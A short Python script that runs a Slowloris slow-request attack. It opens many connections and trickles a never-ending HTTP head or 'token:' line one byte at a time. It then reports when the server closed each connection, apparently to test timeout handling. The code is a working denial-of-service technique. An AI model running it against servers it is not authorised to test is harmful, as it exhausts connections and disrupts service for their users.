#!/usr/bin/env python3
"""Slowloris peer: opens COUNT connections and trickles a request head that never ends, one byte per connection
every INTERVAL seconds, for DURATION seconds (bounded), then reports how many the server closed and when.

  slowloris.py HOST PORT COUNT INTERVAL DURATION KIND     KIND: http (an HTTP head) or line (a TCP handshake line)

Prints (flushed):
  OPEN <connections established>
  CLOSED <closed by the server> STILLOPEN <not closed> FIRST <s> LAST <s>   (seconds after the start)
"""
import select
import socket
import sys
import time


def main():
    host, port, count, interval, duration, kind = sys.argv[1:7]
    port, count, interval, duration = int(port), int(count), float(interval), float(duration)
    head = b"GET /api/v1/devices/ws HTTP/1.1\r\nHost: x\r\n" if kind == "http" else b"token:"
    filler = b"X-Pad: " if kind == "http" else b""
    start = time.monotonic()
    socks = []
    for _ in range(count):
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        socks.append(s)
    print("OPEN", len(socks), flush=True)
    sent = {s: 0 for s in socks}
    closed = {}
    while time.monotonic() - start < duration and len(closed) < len(socks):
        for s in socks:
            if s in closed:
                continue
            data = head + filler + b"a" * 100000
            try:
                s.send(data[sent[s]:sent[s] + 1])
                sent[s] += 1
            except OSError:
                closed[s] = time.monotonic() - start
        readable, _, _ = select.select([s for s in socks if s not in closed], [], [], interval)
        for s in readable:
            try:
                if not s.recv(4096):
                    closed[s] = time.monotonic() - start
            except OSError:
                closed[s] = time.monotonic() - start
    times = sorted(closed.values())
    print("CLOSED", len(closed), "STILLOPEN", len(socks) - len(closed),
          "FIRST", "%.3f" % (times[0] if times else -1), "LAST", "%.3f" % (times[-1] if times else -1), flush=True)
    for s in socks:
        s.close()


if __name__ == "__main__":
    main()
